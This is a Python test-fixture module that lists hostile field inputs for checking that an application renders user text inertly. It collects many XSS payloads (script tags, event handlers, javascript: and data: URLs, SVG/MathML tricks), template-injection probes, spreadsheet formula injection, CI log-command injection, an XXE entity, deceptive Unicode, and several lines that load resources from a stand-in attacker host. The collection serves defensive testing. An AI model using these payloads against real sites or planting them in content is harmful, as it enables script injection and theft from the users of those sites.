"""What somebody might write into a field so that it is not read as words.

In each, `§` stands for the payload's own number: what runs calls `__ran` with it, so that a failing
test says which. Invisible characters are written as escapes, so that readers see them.
"""

from typing import Final

_SCRIPTS: Final = r"""
<script>__ran(§)</script>
<SCRIPT>__ran(§)</SCRIPT>
<script src=data:text/javascript,__ran(§)></script>
<script src="https://evil.example/§.js"></script>
<script type=module>__ran(§)</script>
<scr<script>ipt>__ran(§)</scr</script>ipt>
<script/x>__ran(§)</script >
</script><script>__ran(§)</script>
"><script>__ran(§)</script>
'><script>__ran(§)</script>
--><script>__ran(§)</script><!--
]]><script>__ran(§)</script>
</title><script>__ran(§)</script>
</textarea><script>__ran(§)</script>
</style><script>__ran(§)</script>
</noscript><script>__ran(§)</script>
</template><script>__ran(§)</script>
</article></main></body></html><script>__ran(§)</script>
<script>/*</script>*/__ran(§)</script>
<script defer>__ran(§)</script>
<script nomodule async>__ran(§)</script>
<noscript><p title="</noscript><img src=x onerror=__ran(§)>">
<!--><script>__ran(§)</script>
<!--!><script>__ran(§)</script>
<![CDATA[><script>__ran(§)</script>]]>
<?php ?><script>__ran(§)</script>
<%= %><script>__ran(§)</script>
"""

_HANDLERS: Final = r"""
<img src=x onerror=__ran(§)>
<img src=x onerror="__ran(§)">
<img src=x onerror='__ran(§)'>
<img/src=x/onerror=__ran(§)>
<IMG SRC=x OnErRoR=__ran(§)>
<img src=x onerror=&#95;_ran(§)>
<img src onerror=__ran(§) alt="
"><img src=x onerror=__ran(§)>
'><img src=x onerror=__ran(§)>
" onmouseover=__ran(§) x="
' onmouseover=__ran(§) x='
" autofocus tabindex=0 onfocus=__ran(§) x="
' autofocus tabindex=0 onfocus=__ran(§) x='
" style="animation-name:x" onanimationstart=__ran(§) x="
<body onload=__ran(§)>
<body onpageshow=__ran(§)>
<details open ontoggle=__ran(§)>x</details>
<input autofocus onfocus=__ran(§)>
<select autofocus onfocus=__ran(§)></select>
<textarea autofocus onfocus=__ran(§)></textarea>
<button autofocus onfocus=__ran(§)>x</button>
<video src=x onerror=__ran(§)></video>
<video><source onerror=__ran(§)></video>
<audio src=x onerror=__ran(§)></audio>
<object data=x onerror=__ran(§)></object>
<embed src=x onload=__ran(§)>
<iframe onload=__ran(§)></iframe>
<iframe srcdoc="<script>parent.__ran(§)</script>"></iframe>
<iframe src="javascript:parent.__ran(§)"></iframe>
<iframe src=https://evil.example/§></iframe>
<marquee onstart=__ran(§)>x</marquee>
<style onload=__ran(§)>x{}</style>
<link rel=stylesheet href=https://evil.example/§.css onerror=__ran(§)>
<link rel=preload as=image href=https://evil.example/§>
<meta http-equiv=refresh content="0;url=https://evil.example/§">
<base href=https://evil.example/§/>
<form action=javascript:__ran(§)><input type=submit autofocus onfocus=__ran(§)></form>
<isindex type=image src=x onerror=__ran(§)>
<table background=https://evil.example/§><td>
<div contenteditable autofocus onfocus=__ran(§)>x</div>
<p style="background:url(https://evil.example/§)">x</p>
<style>*{background:url(https://evil.example/§)}</style>
<dialog open onclose=__ran(§)>x</dialog>
<p popover id=x onbeforetoggle=__ran(§)>x</p>
<img srcset="https://evil.example/§ 1x">
<picture><source srcset=https://evil.example/§><img></picture>
<input type=image src=https://evil.example/§>
<a ping=https://evil.example/§ href=#>x</a>
<template shadowrootmode=open><script>__ran(§)</script></template>
<x-y is=z onclick=__ran(§) id=content class=page name=body>x</x-y>
<form id=documentElement><input name=classList></form>
"""

_ADDRESSES: Final = r"""
<a href=javascript:__ran(§)>x</a>
<a href="JaVaScRiPt:__ran(§)">x</a>
<a href="&#106;avascript:__ran(§)">x</a>
<a href="&#x6A;avascript&colon;__ran(§)">x</a>
<a href="java&Tab;script:__ran(§)">x</a>
<a href="java&NewLine;script:__ran(§)">x</a>
<a href="&#1;javascript:__ran(§)">x</a>
<a href=" javascript:__ran(§)">x</a>
<a href="data:text/html,<script>__ran(§)</script>">x</a>
<a href="vbscript:MsgBox(§)">x</a>
<a href="blob:https://evil.example/§">x</a>
<a href="//evil.example/§">x</a>
<a href="\\evil.example/§">x</a>
<area href=javascript:__ran(§)>
javascript:__ran(§)
JAVASCRIPT:__ran(§)
java script:__ran(§)
data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=__ran(§)>
vbscript:MsgBox(§)
file:///etc/passwd?§
view-source:javascript:__ran(§)
"""

_DRAWINGS: Final = r"""
<svg onload=__ran(§)>
<svg/onload=__ran(§)//
<svg><script>__ran(§)</script></svg>
<svg><script href=data:,__ran(§) /></svg>
<svg><script xlink:href=data:,__ran(§) /></svg>
<svg><animate onbegin=__ran(§) attributeName=x dur=1s></svg>
<svg><set onbegin=__ran(§) attributeName=x></svg>
<svg><a xlink:href=javascript:__ran(§)><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:__ran(§) /><text y=9>x</text></a></svg>
<svg><foreignObject><img src=x onerror=__ran(§)></foreignObject></svg>
<svg><image href=https://evil.example/§ /></svg>
<svg><use href="data:image/svg+xml,<svg id=x><script>__ran(§)</script></svg>#x" /></svg>
<svg><style><img src=x onerror=__ran(§)></style></svg>
<svg><title><img src=x onerror=__ran(§)></title></svg>
<svg><desc><script>__ran(§)</script></desc></svg>
</text></svg><img src=x onerror=__ran(§)>
<math><mtext><table><mglyph><style><img src=x onerror=__ran(§)>
<math><mi xlink:href=javascript:__ran(§)>x</mi></math>
<math><annotation-xml encoding=text/html><script>__ran(§)</script></annotation-xml></math>
<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/§">]>&e;
<?xml-stylesheet href=javascript:__ran(§)?>
"""

_CONTEXTS: Final = r"""
</script><img src=x onerror=__ran(§)>
<!--<script>__ran(§)
\u003cscript\u003e__ran(§)\u003c/script\u003e
\x3cimg src=x onerror=__ran(§)\x3e
";__ran(§);//
';__ran(§);//
`;__ran(§);//
${__ran(§)}
"}]};__ran(§);({"a":["
\";__ran(§);//
{"@context":"https://evil.example/§","@id":"x"}
*/__ran(§)/*
}body{background:url(https://evil.example/§)}
expression(__ran(§))
@import "https://evil.example/§";
&lt;script&gt;__ran(§)&lt;/script&gt;
&amp;lt;img src=x onerror=__ran(§)&amp;gt;
&#60;script&#62;__ran(§)&#60;/script&#62;
%3Cscript%3E__ran(§)%3C/script%3E
+ADw-script+AD4-__ran(§)+ADw-/script+AD4-
<plaintext>§
<xmp>§
<textarea>§
<title>§
<select>§
<!-- §
<iframe>§
< img src=x onerror=__ran(§)>
<img src=x onerror=__ran(§)
<<img src=x onerror=__ran(§)>>
<a<b onclick=__ran(§)>
&#x3C;&#X3C;&LT;&lt
"""

_TEMPLATES: Final = r"""
{{ 7 * 191 }} §
{{ config }} §
{% include "main.html" %} §
{% raw %} §
{% endraw %}{{ 7 * 191 }} §
{# comment #} §
[% comment %] §
{{ ''.__class__.__mro__ }} §
{{ claim("no-such") }} §
${7*191} #{7*191} <%= 7*191 %> §
{0} {x} {self.__init__} %s %(x)s %n §
"""

_MARKDOWN: Final = r"""
![x](https://evil.example/§.png)
![x](javascript:__ran(§))
![x]: https://evil.example/§
*x* **x** _x_ `x` ~~x~~ §
`<script>__ran(§)</script>`
[x]: javascript:__ran(§)
[x](<https://a.example/" onclick="__ran(§)>)
[x](https://a.example "title" onclick=__ran(§))
<https://a.example/?q="onclick=__ran(§)">
\<script>__ran(§)</script>
&#91;x&#93;(javascript:__ran(§))
{: onclick=__ran(§) } {#x onclick=__ran(§)}
| <img src=x onerror=__ran(§)> | x |
[^1]: <img src=x onerror=__ran(§)>
=== --- *** # x > x §
"""

_TABLES: Final = r"""
=cmd|'/c calc'!A§
=HYPERLINK("https://evil.example/§","x")
+1+cmd|'/c calc'!A§
-1+cmd|'/c calc'!A§
@SUM(1+§)
"=1+§
,=1+§,"
;=1+§;
|§|
"""

_LOG: Final = r"""
::error file=x,line=1::§
::set-output name=x::§
%0A::warning::§
##[error]§
[[ ]] [[|]] [[x|y|z]] §
"""

_UNSEEN: Final = (
    "soft\u00adhyphen§",
    "zero\u200bwidth\u200c\u200d§",
    "mark\u200e\u200f\u061c§",
    "word\u2060joiner§",
    "tag\U000e0041\U000e0042§",
    "variation\ufe0f§",
    "hangul\u3164filler§",
    "раураl§",
    "＜script＞__ran(§)＜/script＞",
    "‹img src=x onerror=__ran(§)›",
    "Ｌｉｎ§",
    "e\u0301" * 3 + "\u0336" * 9 + "§",
    "Ǆ ﬁ ß İ ı ſ K§",
    "عربي <img src=x onerror=__ran(§)> עברית",
    "🏳️‍🌈👩‍👩‍👧§",
    "中文<img src=x onerror=__ran(§)>日本語",
    "\u00a0\u2003\u3000<script>__ran(§)</script>",
)

_REFUSED: Final = (
    "over\u202eride",
    "over\u202dride",
    "embed\u202bded\u202c",
    "iso\u2066lated\u2069",
    "iso\u2067\u2068",
    "nul\x00",
    "bell\x07",
    "back\x08space",
    "escape\x1b[31m",
    "osc\x1b]8;;https://evil.example\x07",
    "delete\x7f",
    "c1\x9b31m",
    "next\x85line",
    "line\u2028separator",
    "paragraph\u2029separator",
    "mark\ufeff",
    "none\ufffe",
    "none\uffff",
    "high\ud800half",
    "low\udfffhalf",
    "halves\ude00\ud83dswapped",
    "vertical\x0btab",
    "form\x0cfeed",
    "held\ue000\ue010\ue001",
    "zqbriefingbodyqz",
)
"""What no text may hold, whatever it is for: characters that deceive, or that are none."""


def _lines(text: str) -> tuple[str, ...]:
    return tuple(line for line in text.split("\n") if line)


def _numbered(*payloads: str) -> tuple[str, ...]:
    return tuple(one.replace("§", str(number)) for number, one in enumerate(payloads, 1000))


WORDS: Final = _numbered(
    *_lines(_SCRIPTS + _HANDLERS + _ADDRESSES + _DRAWINGS + _CONTEXTS + _TEMPLATES),
    *_lines(_MARKDOWN + _TABLES + _LOG),
    *_UNSEEN,
)
"""What may be said, and has to stay words wherever it is printed."""

LINKED: Final = tuple(one for one in WORDS if "[[" in one)
"""What looks like links to records: in prose these are links, and must lead to one."""

REFUSED: Final = _REFUSED

ADDRESSES: Final = (
    "javascript:__ran(1)",
    "JaVaScRiPt:__ran(1)",
    "\tjavascript:__ran(1)",
    "java\tscript:__ran(1)",
    "javascript&colon;__ran(1)",
    "&#106;avascript:__ran(1)",
    "javascript\u200b:__ran(1)",
    "data:text/html,<script>__ran(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD4=",
    "vbscript:MsgBox(1)",
    "VbScRiPt:MsgBox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "about:blank",
    "view-source:https://a.example/",
    "ftp://a.example/",
    "//evil.example/",
    "\\\\evil.example\\",
    "relative/page",
    "https:evil.example",
    "https://",
    "https://a b.example/",
)
"""What is no address of a page or a mailbox."""

_BROKEN: Final = ("\tjavascript:__ran(1)", "java\tscript:__ran(1)", "https://a b.example/")
"""What no link of prose is written with: Markdown takes an address to end at a blank."""

_WHO: Final = "me:word"

REFUSED_IN_PROSE: Final = (
    *(one for one in ADDRESSES if one not in {*_BROKEN, "relative/page"}),
    *("tel:+1", "ms-msdt:/id", "intent:x", "data:image/png;base64,AAAA", "x:y"),
    *("/\\evil.example/", "\\\\evil.example", "https:/evil.example/", "https:///evil.example"),
    *(
        f"https://{_WHO}@evil.example/",
        "https://evil.example\\@a.example/",
        "http://a.example:99999/",
    ),
    *("///evil.example", "\\/\\/evil.example/", "&#47;/evil.example/", "mailto:"),
)
"""What no link of prose leads to: of addresses without a scheme only those inside the site."""
